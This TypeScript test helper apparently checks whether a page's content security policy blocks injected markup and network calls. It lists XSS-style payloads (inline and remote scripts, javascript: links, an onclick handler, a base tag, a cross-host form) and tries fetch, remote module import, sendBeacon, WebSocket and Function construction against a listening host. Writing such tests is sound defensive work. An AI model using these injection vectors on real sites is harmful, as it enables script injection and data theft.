/** Elements that somebody might get into the page, with their attributes and their content; `other` is where he listens. */
export const injections = (other: string): readonly (readonly [string, Record<string, string>, string])[] => [
  ['script', {}, 'document.title = "taken over"'],
  ['script', { src: `http://${other}/script.js` }, ''],
  ['script', { type: 'module', src: 'data:text/javascript,document.title="taken over"' }, ''],
  ['style', {}, 'body { color: rgb(1, 2, 3) }'],
  ['link', { rel: 'stylesheet', href: `http://${other}/style.css` }, ''],
  ['img', { src: `http://${other}/picture.png`, alt: '' }, ''],
  ['iframe', { src: `http://${other}/frame.html` }, ''],
  ['object', { data: `http://${other}/object.html` }, ''],
  ['button', { onclick: 'document.title = "taken over"' }, 'x'],
  ['a', { href: 'javascript:document.title="taken over"' }, 'x'],
  ['form', { action: `http://${other}/form`, method: 'post', target: '_blank' }, ''],
  ['base', { href: `http://${other}/` }, ''],
]

/** Runs in the page: puts them in, and does what a user might do to each. */
export function inject(elements: readonly (readonly [string, Record<string, string>, string])[]): void {
  for (const [name, attributes, content] of elements) {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    element.textContent = content
    document.body.append(element)
    if (element instanceof HTMLFormElement) element.submit()
    else if (content === 'x') element.click()
  }
}

/** How many `call` makes. */
export const CALLS = 6

/** Runs in the page: calls the network, and makes code of text. Answers with what was not refused. */
export async function call(other: string): Promise<readonly string[]> {
  const tries: readonly (readonly [string, Promise<unknown>])[] = [
    ['fetch', fetch(`http://${other}/fetch`)],
    ['import', import(/* @vite-ignore */ `http://${other}/module.js`)],
    [
      'code from text',
      // Later, as what the test itself runs may do this.
      new Promise((resolve) => setTimeout(resolve, 50)).then(() => Reflect.construct(Function, ['return 1'])),
    ],
    [
      'socket',
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://${other}/socket`)
        socket.addEventListener('open', resolve)
        socket.addEventListener('error', reject)
      }),
    ],
    [
      'worker',
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.addEventListener('message', resolve)
        worker.addEventListener('error', reject)
      }),
    ],
  ]
  navigator.sendBeacon(`http://${other}/beacon`, 'x') // answers yes even when it is refused
  const ended = await Promise.allSettled(tries.map(([, ending]) => ending))
  await new Promise((resolve) => setTimeout(resolve, 500)) // the others take their time to be refused
  return tries.filter((_, i) => ended[i]?.status === 'fulfilled').map(([name]) => name)
}
